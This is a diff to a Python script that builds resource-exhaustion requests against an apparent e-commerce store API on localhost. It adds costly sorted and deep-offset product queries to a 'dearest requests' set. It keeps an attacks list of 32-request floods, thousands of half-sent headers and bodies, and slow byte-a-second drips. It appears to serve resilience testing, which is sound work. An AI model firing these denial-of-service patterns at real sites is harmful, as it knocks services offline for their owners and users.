@@ -34,7 +34,7 @@ def post(path: str, key: str, body: Any) -> str:
     return f"{head}\r\ncontent-type: application/json\r\ncontent-length: {len(text)}\r\n\r\n{text}"
 
 
-def dearest(key: str) -> list[str]:
+def dearest(key: str, *, region_id: str) -> list[str]:
     """The most expensive requests that are known."""
     alternatives = "&".join(f"$or[{turn}][q]={word}" for turn, word in enumerate(_WORDS[:5]))
     aliases = " ".join(f'a{turn}: products(q: "{word}") {{ count }}' for turn, word in enumerate(_WORDS))
@@ -44,6 +44,9 @@ def dearest(key: str) -> list[str]:
         post("/graphql", key, {"query": f"{{ {aliases} }}"}),
         get("/store/products?offset=30000&limit=100&order=title&fields=id,title", key),
         get(f"/store/products?limit=1000&fields={_CATALOGUE}", key),
+        get(f"/store/products?order=variants.calculated_price&limit=1&fields=id&region_id={region_id}", key),
+        get("/store/products?order=collection.title&offset=30000&limit=1&fields=id", key),
+        get("/store/product-variants?order=upc&limit=1&fields=id", key),
     ]
 
 
@@ -72,8 +75,8 @@ def attacks(facts: Mapping[str, Any]) -> list[Attack]:
     half_head = "GET /store/regions HTTP/1.1\r\nhost: 127.0.0.1\r\nx-half"
     half_body = "POST /auth/customer/emailpass HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 500\r\n\r\n{"
     return [
-        Attack("32 of the dearest requests", "ask", 32, dearest(key)),
-        Attack("32 of them, hung up", "leave", 32, dearest(key)),
+        Attack("32 of the dearest requests", "ask", 32, dearest(key, region_id=facts["region_id"])),
+        Attack("32 of them, hung up", "leave", 32, dearest(key, region_id=facts["region_id"])),
         Attack("2,000 half heads", "stay", 2000, [half_head]),
         Attack("200 half bodies", "stay", 200, [half_body]),
         Attack("200 bodies, a byte a second", "drip", 200, [half_body]),
